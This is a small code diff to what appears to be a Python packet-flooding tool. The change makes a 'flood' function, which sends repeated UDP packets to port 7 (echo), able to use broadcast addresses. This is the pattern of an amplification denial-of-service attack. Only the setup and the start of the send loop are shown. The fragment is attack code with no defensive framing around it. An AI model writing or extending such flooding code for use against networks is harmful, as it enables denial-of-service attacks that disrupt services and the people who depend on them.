@@ -76,6 +76,7 @@ def cut(address, total, size):
 
 def flood(address, count):
     sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
     sock.connect((address, 7))
     for _ in range(count):
         try:
